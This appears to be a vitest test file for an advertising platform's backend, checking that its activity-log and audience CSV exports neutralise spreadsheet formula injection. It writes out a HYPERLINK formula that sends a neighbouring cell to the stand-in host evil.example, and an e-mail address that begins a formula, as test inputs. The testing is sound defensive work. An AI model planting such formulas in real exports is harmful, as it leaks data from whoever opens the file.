import { createAccount as createAccountEndpoint, updateMe } from '@adcontrol/domain/accounts/contracts';
import { exportActivity } from '@adcontrol/domain/activity/contracts';
import { createAudience, exportAudience } from '@adcontrol/domain/audiences/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/build-test-app';
import type { Person } from '../helpers/callers';
import { createAccount } from '../helpers/fixtures';
import { request } from '../helpers/request';
import { formulaCells, spreadsheetCells } from '../helpers/spreadsheet-cells';

/**
 * Issue 24 §6: no CSV the product writes holds a cell that a spreadsheet program would run as a formula
 * (decision 044). The company name below, opened in a spreadsheet, would send the cell beside it away.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"Andes")';
let testApp: TestApp;
let admin: Person;
let seller: Person;

beforeAll(async () => {
  testApp = await buildTestApp({ AUDIENCE_DEFAULT_DEVICES: '500' });
  const { db } = testApp.database;
  admin = { id: (await createAccount(db, { role: 'admin' })).id, role: 'admin' };
  seller = { id: (await createAccount(db, { role: 'seller' })).id, role: 'seller' };
});
afterAll(() => testApp.close());

describe('the activity log export', () => {
  it('neutralises an e-mail that starts a formula, and keeps the company inside its JSON cell', async () => {
    const created = await request(testApp, admin, createAccountEndpoint, {
      body: {
        email: '-2+3@evil.example',
        role: 'advertiser',
        firstName: 'Andes',
        company: HYPERLINK,
        password: 'correct horse battery',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const advertiser: Person = { id: created.json().id, role: 'advertiser' };
    const renamed = await request(testApp, advertiser, updateMe, { body: { company: `${HYPERLINK} 2` } });
    expect(renamed.statusCode, renamed.body).toBe(200);

    const response = await request(testApp, admin, exportActivity);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(formulaCells(response.body)).toEqual([]);
    const cells = spreadsheetCells(response.body).flat();
    expect(cells).toContain("'-2+3@evil.example");
    expect(cells.some((cell) => cell.startsWith('{') && cell.includes('HYPERLINK'))).toBe(true);
  });
});

describe('the audience export', () => {
  it('keeps the filters one cell, so no place name becomes a formula', async () => {
    // An audience's own name holds only letters, spaces and digits; a place's name is free text.
    const saved = await request(testApp, seller, createAudience, {
      body: {
        name: 'Andes',
        filters: {
          geolocalization: {
            coordinates: [
              {
                type: 'point',
                name: `Plaza,${HYPERLINK}`,
                center: { lat: -33.45, lng: -70.66 },
                radio: 20_000,
              },
            ],
          },
        },
      },
    });
    expect(saved.statusCode, saved.body).toBe(201);
    const audience = saved.json();

    const response = await request(testApp, seller, exportAudience, { params: { id: audience._id } });
    expect(response.statusCode).toBe(200);
    expect(formulaCells(response.body)).toEqual([]);
    const [, , filters] = spreadsheetCells(response.body);
    expect(filters).toEqual(['# Filters', JSON.stringify(audience.filters)]);
  });
});
